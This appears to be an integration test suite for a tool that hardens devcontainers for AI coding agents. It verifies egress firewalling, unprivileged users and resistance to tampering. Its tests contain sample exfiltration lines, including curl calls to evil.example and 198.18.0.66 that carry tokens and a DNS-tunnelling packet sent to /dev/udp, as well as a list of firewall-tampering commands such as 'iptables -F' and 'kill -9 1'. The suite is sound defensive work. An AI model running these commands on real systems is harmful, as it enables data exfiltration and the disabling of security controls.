import { type ChildProcess, spawn } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { type AddressInfo, createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Attack, attackProgram, attacks, newToken } from './attacks.js';
import { baseImages, ensureImage } from './base-images.js';
import {
  bringUp,
  type DevContainer,
  devContainer,
  docker,
  harden,
  missingEngine,
  must,
  removeContainers,
  run,
} from './engine.js';
import { type Internet, startInternet } from './internet.js';

const skip = missingEngine() !== undefined;
const bundle = process.env.SSL_CERT_FILE ?? '/etc/ssl/certs/ca-certificates.crt';

const allowed = [
  'allowed.example',
  '.suffix.example',
  'ssh.example:22',
  'rebind.example',
  'cdn.example',
  'rotating.example',
  'six.example',
].flatMap((host) => ['--allow', host]);

// Lets an unprivileged process send ICMP echo, as many engines do; whether it gets out is the firewall's business.
const openPing = ['--sysctl=net.ipv4.ping_group_range=0 2147483647'];

let internet: Internet;
const folders: string[] = [];

beforeAll(async () => {
  if (!skip) internet = await startInternet();
});

afterAll(() => {
  for (const folder of folders) {
    removeContainers(folder);
    rmSync(folder, { recursive: true, force: true });
  }
  internet?.stop();
});

/** A project with what `init` writes for these flags, and the base images that it asks for. */
function newProject(...flags: string[]): string {
  const folder = mkdtempSync(join(tmpdir(), `harden-project-${process.pid}-`));
  folders.push(folder);
  writeFileSync(join(folder, 'package.json'), '{ "name": "demo", "private": true }\n');
  must('git', ['init', '--quiet', folder]);
  const ca = existsSync(bundle) ? ['--ca', bundle] : [];
  const outcome = harden('init', folder, '--yes', ...flags, ...ca);
  if (outcome.code !== 0) throw new Error(`init failed: ${outcome.stderr}`);
  const dockerfile = readFileSync(join(folder, '.devcontainer', 'Dockerfile'), 'utf8');
  for (const image of baseImages(dockerfile)) ensureImage(image);
  return folder;
}

/** Points the container at the fake internet's name server and network; everything else stays as `init` wrote it. */
function joinInternet(folder: string, ...more: string[]): void {
  const path = join(folder, '.devcontainer', 'devcontainer.json');
  const text = readFileSync(path, 'utf8');
  const flags = [`--dns=${internet.nameServer}`, ...openPing, ...more]
    .map((flag) => `${JSON.stringify(flag)},`)
    .join(' ');
  writeFileSync(path, text.replace('"runArgs": [', `"runArgs": [ ${flags}`));
}

/** A port of the address that nobody listens on. */
async function freePort(address: string): Promise<number> {
  const server = createServer().listen(0, address);
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  server.close();
  await once(server, 'close');
  return port;
}

/** The same image on the same network without its firewall: here every attack must succeed, or it proves nothing. */
function startControl(image: string, ...more: string[]): string {
  return docker(
    'run',
    '--detach',
    '--label',
    `harden-control=${process.pid}`,
    `--dns=${internet.nameServer}`,
    ...openPing,
    ...more,
    '--user',
    'dev',
    '--entrypoint',
    'sleep',
    image,
    'infinity',
  );
}

/** Waits a little for the token: what a container sent is on its way when its command has ended. */
async function soon(happened: (token: string) => boolean, token: string): Promise<boolean> {
  for (let tries = 0; tries < 6; tries += 1) {
    if (happened(token)) return true;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  return false;
}
const arrives = (token: string): Promise<boolean> => soon(internet.arrived, token);
const escapes = (token: string): Promise<boolean> => soon(internet.escaped, token);

function installAttacks(id: string): void {
  docker(
    'exec',
    '--user',
    'dev',
    id,
    'python3',
    '-c',
    `open('/tmp/attack.py', 'w').write(${JSON.stringify(attackProgram)})`,
  );
}

function refusesAttacks(target: () => DevContainer, control: () => string, chosen: readonly Attack[]): void {
  for (const attack of chosen) {
    it(`refuses: ${attack.name}`, async () => {
      const works = newToken();
      run('docker', ['exec', control(), 'bash', '-c', attack.script(works)]);
      expect(await escapes(works), 'without the firewall the attack must work').toBe(true);

      const token = newToken();
      const { stdout } = target().attempt(
        `begin=$(date +%s%3N); ${attack.script(token)}; echo "took=$(($(date +%s%3N) - begin))"`,
      );
      expect(await escapes(token)).toBe(false);
      // Refused, not left to time out: the clients would have waited three or four seconds.
      const took = Number(/took=(\d+)/.exec(stdout)?.[1] ?? Number.NaN);
      expect(took).toBeLessThan(2500);
    });
  }
}

function reachesAllowedNames(target: () => DevContainer, families: readonly string[]): void {
  const cases = families.flatMap((family) => ['http', 'https'].map((scheme) => [scheme, family] as const));
  it.each(cases)('reaches a listed name by %s over IPv%s', async (scheme, family) => {
    const token = newToken();
    const { code, stderr } = target().attempt(
      `curl -${family} -sS -k -m 5 ${scheme}://allowed.example/${token}`,
    );
    expect(stderr).toBe('');
    expect(code).toBe(0);
    expect(await arrives(token)).toBe(true);
  });

  it('reaches listed names that share an address with others', () => {
    expect(
      target().attempt('curl -sS -k -m 5 https://cdn.example/ && curl -sS -m 5 http://cdn.example/').code,
    ).toBe(0);
  });

  it('follows a name whose address changes', () => {
    const { stdout } = target().attempt(
      'for i in $(seq 8); do curl -sS -k -m 5 https://rotating.example/; echo; sleep 1.1; done',
    );
    expect(stdout).not.toMatch(/error/i);
    expect(new Set(stdout.trim().split('\n')).size).toBeGreaterThan(1);
  });

  it('keeps a connection through a second run of the firewall, which opens nothing', async () => {
    const script = `exec 3<>/dev/tcp/allowed.example/22; printf 'GET /one HTTP/1.1\\r\\n\\r\\n' >&3; head -c 20 <&3 >/dev/null; sleep 3; printf 'GET /two HTTP/1.1\\r\\n\\r\\n' >&3; timeout 3 head -c 60 <&3`;
    const still = new Promise<string>((resolve) => {
      const child = spawn('docker', [
        'exec',
        '--user',
        'dev',
        target().id,
        'bash',
        '-c',
        script.replace('allowed.example/22', 'ssh.example/22'),
      ]);
      let text = '';
      child.stdout.on('data', (data) => {
        text += data;
      });
      child.on('close', () => resolve(text));
    });
    await new Promise((resolve) => setTimeout(resolve, 1000));
    docker('exec', '--user', 'root', target().id, '/usr/local/sbin/init-firewall.sh');
    const token = newToken();
    target().attempt(`curl -sS -m 4 http://198.18.0.66/${token}`);
    expect(await escapes(token)).toBe(false);
    expect(await still).toContain('200 OK');
  });
}

function isUnprivileged(target: () => DevContainer): void {
  it('runs tools as an unprivileged user without any capability', () => {
    const { stdout } = target().exec('id -u; id -un; cat /proc/self/status');
    expect(stdout.split('\n')[0]).not.toBe('0');
    expect(stdout.split('\n')[1]).toBe('dev');
    expect(stdout).toMatch(/^CapEff:\s+0{16}$/m);
    expect(stdout).toMatch(/^CapPrm:\s+0{16}$/m);
    expect(stdout).toMatch(/^CapAmb:\s+0{16}$/m);
    expect(stdout).toMatch(/^NoNewPrivs:\s+1$/m);
  });

  it("has no sudo and no file that lends its owner's rights", () => {
    expect(target().exec('command -v sudo').code).not.toBe(0);
    expect(target().exec('find / -xdev -type f -perm /6000 2>/dev/null').stdout).toBe('');
  });

  it.each([
    'iptables -F',
    'ip6tables -F',
    'ipset flush',
    'ipset add harden4-web 198.18.0.66',
    'iptables -P OUTPUT ACCEPT',
    '/usr/local/sbin/init-firewall.sh',
    'kill -9 1',
    'kill -9 $(pgrep -o dnsmasq)',
    'echo nameserver 198.18.0.66 >/etc/resolv.conf',
    'echo .example >>/etc/harden-devcontainer/allowlist',
    'touch /run/harden-devcontainer/x',
    'touch "$PWD/.devcontainer/x"',
  ])('refuses: %s', (script) => {
    const { stdout, code } = target().exec(`echo begun; ${script}`);
    expect(stdout).toMatch(/^begun/);
    expect(code).not.toBe(0);
  });
}

describe.skipIf(skip)('the container that init writes', () => {
  let container: DevContainer;
  let control: string;
  let servers: ChildProcess;
  let gateway: string;
  let forwarded: number;
  let neighbour: number;
  let log: string;

  beforeAll(async () => {
    // What `host-gateway` stands for: the bridge's address. The engine tells it only of networks that somebody configured.
    gateway = /inet ([0-9.]+)/.exec(must('ip', ['-4', '-o', 'address', 'show', 'docker0']))?.[1] ?? '';
    expect(gateway).not.toBe('');
    [forwarded, neighbour] = [await freePort(gateway), await freePort(gateway)];
    const mcp = `tracker=${forwarded}`;
    const folder = newProject('--stack', 'node,python', '--agent', 'claude-code', '--mcp', mcp, ...allowed);
    joinInternet(folder);
    log = join(folder, 'host.log');
    writeFileSync(log, '');
    // It ends with its standard input, so also when this run is killed.
    servers = spawn(
      process.execPath,
      [join(import.meta.dirname, 'host-server.mjs'), log, gateway, `${forwarded}`, `${neighbour}`],
      { stdio: ['pipe', 'inherit', 'inherit'] },
    );
    container = devContainer(folder);
    control = startControl(docker('inspect', '--format', '{{.Image}}', container.id));
    for (const id of [container.id, control]) installAttacks(id);
    expect(readFileSync(log, 'utf8')).toContain('ready');
  });

  afterAll(() => {
    servers?.kill();
    run('docker', ['rm', '--force', control]);
  });

  const target = (): DevContainer => container;

  describe.each(['first start', 'after docker restart'])('%s', (when) => {
    beforeAll(() => {
      if (when === 'first start') return;
      docker('restart', container.id);
      expect(container.exec('/usr/local/bin/harden-ready').code).toBe(0);
    });

    isUnprivileged(target);
    reachesAllowedNames(target, ['4']);
    // After a restart one attack in six says whether the firewall is there again.
    refusesAttacks(
      target,
      () => control,
      attacks.filter((one, index) => !one.ipv6 && (when === 'first start' || index % 6 === 0)),
    );

    it('reaches names below an allowed suffix', () => {
      expect(container.exec('curl -sS -m 5 http://any.suffix.example/').code).toBe(0);
    });

    it('reaches a port that the policy names for one host', () => {
      expect(container.exec('curl -sS -m 5 http://ssh.example:22/').code).toBe(0);
    });

    it('takes no private, loopback or metadata address from a name server', () => {
      expect(run('docker', ['exec', control, 'getent', 'ahostsv4', 'rebind.example']).stdout).toContain(
        '169.254.169.254',
      );
      expect(container.exec('getent ahostsv4 rebind.example').stdout).toBe('');
    });

    it('reaches the forwarded MCP server, from the address in .mcp.json', () => {
      const config = JSON.parse(readFileSync(join(container.folder, '.mcp.json'), 'utf8'));
      const { url } = config.mcpServers.tracker as { url: string };
      expect(url).toBe(`http://127.0.0.1:${forwarded}/mcp`);
      const request = '{"jsonrpc":"2.0","id":7,"method":"initialize"}';
      const { stdout } = container.exec(
        `curl -sS -m 5 -H 'Content-Type: application/json' -d '${request}' ${url}`,
      );
      expect(JSON.parse(stdout)).toEqual({
        jsonrpc: '2.0',
        id: 7,
        result: { serverInfo: { name: `on-${forwarded}` } },
      });
    });

    it('reaches no other port of the host, and not even that one directly', () => {
      const direct = (port: number): string => `curl -sS -m 4 http://host.docker.internal:${port}/`;
      const byAddress = (port: number): string => `curl -sS -m 4 http://${gateway}:${port}/`;
      expect(run('docker', ['exec', control, 'bash', '-c', byAddress(neighbour)]).code).toBe(0);
      for (const port of [forwarded, neighbour]) {
        expect(container.exec(direct(port)).code).not.toBe(0);
        expect(container.exec(byAddress(port)).code).not.toBe(0);
      }
      expect(container.exec(`curl -sS -m 4 http://127.0.0.1:${neighbour}/`).code).not.toBe(0);
    });

    it('reaches itself', () => {
      const server = `require('http').createServer((_, answer) => answer.end('hi')).listen(3000, '127.0.0.1')`;
      const script = `node -e "${server}" & for i in $(seq 100); do curl -s http://127.0.0.1:3000/ && break; sleep 0.1; done; kill %1`;
      expect(container.attempt(script).stdout).toBe('hi');
    });

    it('starts a killed helper again, and stays closed meanwhile', async () => {
      docker('exec', '--user', 'root', container.id, 'pkill', '-9', 'dnsmasq');
      const token = newToken();
      container.exec(`curl -sS -m 4 http://evil.example/${token}; curl -sS -m 4 http://198.18.0.66/${token}`);
      expect(await escapes(token)).toBe(false);
      const back = container.exec(
        'for i in $(seq 50); do curl -sS -m 5 http://allowed.example/ >/dev/null && exit 0; sleep 0.1; done; exit 1',
      );
      expect(back.code).toBe(0);
    });
  });

  it('has the agent at the version of the preset, its state in a volume of this container', () => {
    const preset = JSON.parse(
      readFileSync(join(import.meta.dirname, '..', '..', 'presets', 'agents', 'claude-code.json'), 'utf8'),
    );
    const version = container.exec('claude --version');
    expect(version.stdout).toContain(preset.version);
    expect(
      container.exec('touch "$CLAUDE_CONFIG_DIR/kept" && stat -c %U "$CLAUDE_CONFIG_DIR/kept"').stdout.trim(),
    ).toBe('dev');
    const mounts = JSON.parse(docker('inspect', '--format', '{{json .Mounts}}', container.id)) as {
      Type: string;
      Name?: string;
      Destination: string;
    }[];
    expect(mounts.find((mount) => mount.Destination === '/home/dev/.claude')).toMatchObject({
      Type: 'volume',
    });
    expect(
      mounts
        .filter((mount) => mount.Type === 'bind')
        .map((mount) => mount.Destination)
        .sort(),
    ).toEqual([
      `/workspaces/${container.folder.split('/').at(-1)}`,
      `/workspaces/${container.folder.split('/').at(-1)}/.devcontainer`,
    ]);
  });

  it('does not start when a firewall step fails', () => {
    const path = join(container.folder, '.devcontainer', 'allowlist');
    const before = readFileSync(path, 'utf8');
    writeFileSync(path, `${before}not a host name\n`);
    try {
      const outcome = bringUp(container.folder);
      expect(outcome.code).not.toBe(0);
      const { containerId } = JSON.parse(outcome.stdout.trim().split('\n').at(-1) ?? '{}') as {
        containerId: string;
      };
      expect(must('docker', ['wait', containerId], { timeout: 30_000 })).toBe('1');
      expect(run('docker', ['logs', containerId]).stderr).toMatch(
        /allowlist line \d+: 'not a host name' has more than one word/,
      );
    } finally {
      writeFileSync(path, before);
    }
  });
});

describe.skipIf(skip)('on a user-defined network with IPv6', () => {
  let container: DevContainer;
  let control: string;
  const network = `harden-${process.pid}`;

  beforeAll(() => {
    docker(
      'network',
      'create',
      '--ipv6',
      '--subnet',
      '198.19.0.0/24',
      '--subnet',
      '2001:2:0:1::/64',
      network,
    );
    const folder = newProject('--stack', 'python', '--agent', 'none', ...allowed);
    joinInternet(folder, `--network=${network}`);
    container = devContainer(folder);
    control = startControl(docker('inspect', '--format', '{{.Image}}', container.id), `--network=${network}`);
    for (const id of [container.id, control]) installAttacks(id);
  });

  afterAll(() => {
    for (const folder of folders) removeContainers(folder);
    run('docker', ['rm', '--force', control]);
    run('docker', ['network', 'rm', network]);
  });

  const target = (): DevContainer => container;
  isUnprivileged(target);
  reachesAllowedNames(target, ['4', '6']);
  refusesAttacks(target, () => control, attacks);

  it('reaches a name that has only an IPv6 address', () => {
    const { stdout } = container.attempt('curl -6 -sS -k -m 5 https://six.example/');
    expect(stdout).toBe('from 2001:2::10');
  });

  it("refuses the engine's embedded resolver at its port and at the hidden one behind it", async () => {
    const hidden = docker(
      'exec',
      '--user',
      'root',
      container.id,
      'sh',
      '-c',
      "iptables -t nat -S | sed -n 's/.*--to-destination //p'",
    ).split('\n');
    expect(hidden.length).toBeGreaterThan(0);
    for (const where of ['127.0.0.11:53', ...hidden]) {
      const token = newToken();
      const [address, port] = where.split(':');
      container.exec(
        `printf '\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x${token.length.toString(16).padStart(2, '0')}${token}\\x06tunnel\\x07example\\x00\\x00\\x01\\x00\\x01' >/dev/udp/${address}/${port}`,
      );
      expect(await escapes(token), where).toBe(false);
    }
  });

  it('keeps neighbours on the network out', () => {
    const address = docker(
      'inspect',
      '--format',
      `{{(index .NetworkSettings.Networks "${network}").IPAddress}}`,
      container.id,
    );
    container.exec('nohup python3 -m http.server 9000 >/dev/null 2>&1 & sleep 0.5');
    const listen = docker(
      'exec',
      '--detach',
      '--user',
      'dev',
      container.id,
      'python3',
      '-m',
      'http.server',
      '9001',
    );
    expect(listen).toBe('');
    expect(
      container.exec(
        'for i in $(seq 30); do curl -sS -m 1 http://127.0.0.1:9001/ >/dev/null && exit 0; sleep 0.1; done; exit 1',
      ).code,
    ).toBe(0);
    expect(
      run('docker', ['exec', control, 'curl', '-sS', '-m', '2', `http://${address}:9001/`]).code,
    ).not.toBe(0);
  });
});
